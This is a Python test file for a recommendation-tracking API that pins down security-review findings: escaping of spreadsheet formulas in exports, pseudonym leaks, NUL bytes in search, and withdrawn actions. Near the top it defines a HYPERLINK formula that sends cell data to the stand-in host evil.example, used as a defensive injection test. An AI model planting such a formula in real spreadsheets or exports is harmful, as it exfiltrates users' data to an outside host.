"""What a security review of the tracking API found, pinned: spreadsheet formulas in exports, an
order that betrayed a pseudonym, a NUL in a search."""

import csv
import io

from openpyxl import load_workbook

from api.auth.models import OrganisationKind
from api.recommendations.export import XLSX_TYPE
from tests.factories import OWN_STATE, create_organisation
from tests.tracking_factories import create_assessment, create_indicator

FORMULA = '=HYPERLINK("https://evil.example/?"&D5,"source")'


async def test_exported_cells_never_become_formulas(client, tracking_world, session, settings):
    w = tracking_world
    create_indicator(session, OWN_STATE, recommendation=w.cycle.recommendations[OWN_STATE], name=FORMULA)
    w.cycle.recommendations[OWN_STATE].text = "=1+2 and +SUM(A1) -cmd @x"
    w.cycle.recommendations[OWN_STATE].paragraph = None  # the matrix cell then starts with the text
    session.flush()
    headers = w.headers("nhri", settings)
    for path, params in (
        ("/tracking/matrix", {"state": OWN_STATE, "cycle": 3}),
        ("/recommendations", {"state_under_review": OWN_STATE}),
    ):
        response = await client.get(path, params=params, headers={**headers, "Accept": XLSX_TYPE})
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        assert cells and all(c.data_type == "s" for c in cells), [c.value for c in cells if c.data_type != "s"]
        assert any(c.value.startswith("=1+2") for c in cells)
        response = await client.get(path, params=params, headers={**headers, "Accept": "text/csv"})
        values = [v for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for v in row]
        assert "'=1+2 and +SUM(A1) -cmd @x" in values
        assert not any(v.startswith(("=", "+", "-", "@")) for v in values)


async def test_organisations_are_ordered_by_kind_and_id_never_by_a_hidden_name(client, tracking_world, session):
    w = tracking_world
    recommendation = w.cycle.recommendations[OWN_STATE]
    masked = create_organisation(session, OrganisationKind.cso, OWN_STATE, name="AAA real name", public_name="ZZZ")
    plain = create_organisation(session, OrganisationKind.cso, OWN_STATE, name="MMM")
    for org in (masked, plain):
        create_assessment(session, org, recommendation)
    body = (await client.get("/tracking/matrix", params={"state": OWN_STATE, "cycle": 3})).json()
    row = next(r for r in body["items"] if r["recommendation_id"] == recommendation.id)
    csos = [a["organisation"] for a in row["assessments"] if a["organisation"]["kind"] == "cso"]
    assert [c["id"] for c in csos] == sorted(c["id"] for c in csos)
    assert "AAA real name" not in str(body)


async def test_a_nul_in_a_search_is_a_422_on_every_database(client, tracking_world):
    for path in ("/tracking/progress-updates", "/tracking/assessments"):
        response = await client.get(path, params={"q": "a\x00b"})
        assert response.status_code == 422 and response.json()["field"] == "q", response.text


async def test_a_withdrawn_plan_row_is_gone_for_posts_and_overviews_too(client, tracking_world, settings, session):
    """Deleting an action withdraws it (issue 14), whatever refers to it: new posts cannot name it and the
    overviews leave it out, as they would a deleted one."""
    from api.tracking.plans.policy import not_archived  # noqa: F401  (the rule the overview applies)

    w = tracking_world
    action, milestone = w.tracking.actions[OWN_STATE], w.tracking.milestones[OWN_STATE]
    government = w.headers("government", settings)
    assert (await client.delete(f"/tracking/actions/{action.id}", headers=government)).status_code == 204
    session.refresh(action)
    assert action.withdrawn_at is not None  # withdrawn, not deleted
    cso = w.headers("cso", settings)
    for ref in (action.id, 999_999):
        response = await client.post(
            "/tracking/progress-updates",
            headers=cso,
            json={"action_id": ref, "text": "x", "reported_on": "2021-05-01", "visibility": "public"},
        )
        assert (response.status_code, response.json()["field"]) == (422, "action_id")
    gone = [
        await client.post("/tracking/evidence", headers=cso, data={"milestone_id": str(ref), "url": "https://a.org"})
        for ref in (milestone.id, 999_999)
    ]
    assert [g.status_code for g in gone] == [404, 404]
    matrix = (await client.get("/tracking/matrix", params={"state": OWN_STATE, "cycle": 3})).json()
    assert all(row["actions"] == [] and row["indicators"] == [] for row in matrix["items"])
    board = (await client.get("/tracking/dashboard", params={"state": OWN_STATE})).json()
    assert board["actions_by_status"] == {} and board["milestones"]["total"] == 0
